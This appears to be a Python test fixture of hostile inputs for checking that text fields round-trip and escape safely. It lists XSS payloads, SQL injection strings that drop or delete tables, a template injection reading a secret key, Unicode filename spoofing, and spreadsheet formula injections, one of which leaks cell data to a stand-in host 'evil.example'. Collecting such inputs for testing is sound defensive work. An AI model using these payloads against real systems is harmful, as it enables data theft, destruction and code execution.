"""A corpus of hostile input: what attackers (and unlucky copy-pastes) send into text fields."""

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "{{ config.SECRET_KEY }}{% for x in range(3) %}x{% endfor %}",  # template injection
    '<img src="file:///etc/passwd">',
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE plan; --",
    '1); DELETE FROM "user"; --',
    "\\'; SELECT pg_sleep(10); --",
    "%_%' ESCAPE '\\",
]
UNICODE = [
    "\u202eexe.pdf",  # right-to-left override: shows as "fdp.exe"
    "\u200b\u200c\u200d\ufeff zero widths",
    "Zalgo t\u0337\u0321e\u0336xt",
    "emoji 🛡️ and CJK 数据安全",
    "line\u2028separator",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NUL = "before\x00after"
OVER_LONG = "A" * 100_000

# Everything that must come back out exactly as typed (after trimming), escaped wherever shown.
TEXT = XSS + SQL + UNICODE + FORMULAS
ALL = [*TEXT, NUL, OVER_LONG]
